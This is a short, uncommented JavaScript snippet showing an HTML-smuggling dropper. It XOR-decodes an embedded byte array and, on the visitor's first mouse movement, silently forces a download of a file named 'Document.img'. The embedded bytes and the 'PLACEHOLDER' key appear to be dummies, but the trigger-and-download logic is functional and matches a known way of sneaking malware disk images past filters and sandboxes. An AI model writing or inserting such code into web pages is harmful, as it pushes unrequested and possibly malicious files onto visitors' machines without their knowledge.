var enc = [19, 7, 3, 22, 40, 9, 14, 61, 90, 12, 33, 45, 8, 77, 54, 21, 3, 90, 11, 2, 9, 6, 120, 44, 32, 18];
var k = 'PLACEHOLDER';
var dec = new Uint8Array(enc.map(function (b, i) { return b ^ k.charCodeAt(i % k.length); }));
var done = false;
document.addEventListener('mousemove', function () {
  if (done) return;
  done = true;
  var a = document.createElement('a');
  a.href = URL.createObjectURL(new Blob([dec]));
  a.download = 'Document.img';
  a.click();
});
